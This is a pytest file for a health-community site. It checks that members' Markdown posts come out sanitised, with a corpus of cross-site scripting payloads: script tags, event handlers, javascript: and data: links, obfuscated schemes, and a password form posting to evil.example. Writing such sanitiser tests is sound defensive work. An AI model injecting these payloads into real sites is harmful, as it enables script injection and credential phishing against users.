"""
Members' posts are hostile input until proven otherwise. Every entry of this corpus goes through
the post's Markdown pipeline, and what comes out may hold only the allowed elements and
attributes, with web links marked as user content.
"""

from html.parser import HTMLParser

import pytest

from diseasemaps.experiences.models import Experience

ALLOWED_TAGS = {"p", "br", "ul", "ol", "li", "em", "strong", "a", "blockquote", "code"}
ALLOWED_ATTRIBUTES = {"a": {"href", "rel", "title"}}

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](  JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![image](https://evil.example/track.png)",
    '[title](https://example.org "a" onmouseover="alert(1)")',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">cover</div>',
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<object data=x></object><embed src=x>",
    "<!-- a comment --><p>after</p>",
    "# Heading one\n\n## Heading two\n\nSetext\n======",
    "<h1>raw heading</h1>",
    "<table><tr><td>cell</td></tr></table>",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '<a href="https://example.org" target="_blank" rel="opener">x</a>',
    "<<script>script>alert(1)<</script>/script>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<base href='https://evil.example/'>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '[x](https://example.org/" onclick="alert(1))',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\u202eevil\u202c text with bidi override",
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize("markdown", CORPUS)
def test_hostile_markdown_and_html_come_out_harmless(markdown):
    experience = Experience()
    experience.set_body(markdown)
    collector = _Collector()
    collector.feed(experience.body_html)
    for tag, attributes in collector.elements:
        assert tag in ALLOWED_TAGS, (markdown, experience.body_html)
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()), experience.body_html
        if tag == "a":
            href = attributes.get("href", "https://")
            assert href.startswith(("http://", "https://")), experience.body_html
            assert attributes["rel"] == "nofollow ugc noopener noreferrer"


def test_a_plain_link_is_kept_and_marked_as_user_content():
    experience = Experience()
    experience.set_body("See [the leaflet](https://example.org/leaflet).")
    assert (
        '<a href="https://example.org/leaflet" rel="nofollow ugc noopener noreferrer">'
        "the leaflet</a>" in experience.body_html
    )


def test_a_relative_link_loses_its_target():
    experience = Experience()
    experience.set_body("[my page](/accounts/logout/) and [x](java%09script:alert(1))")
    assert "href" not in experience.body_html


def test_a_pending_edit_goes_through_the_same_pipeline():
    experience = Experience()
    experience.set_pending_body("<script>alert(1)</script> ## not a heading")
    assert "<script" not in experience.pending_body_html
    assert "<h2" not in experience.pending_body_html


def test_a_link_with_a_scheme_but_no_host_stays_text():
    # On an https page a browser resolves "https:/accounts/logout/" against our own site.
    experience = Experience()
    experience.set_body("[log out](https:/accounts/logout/) and [x](http:alert(1))")
    assert "<a" not in experience.body_html
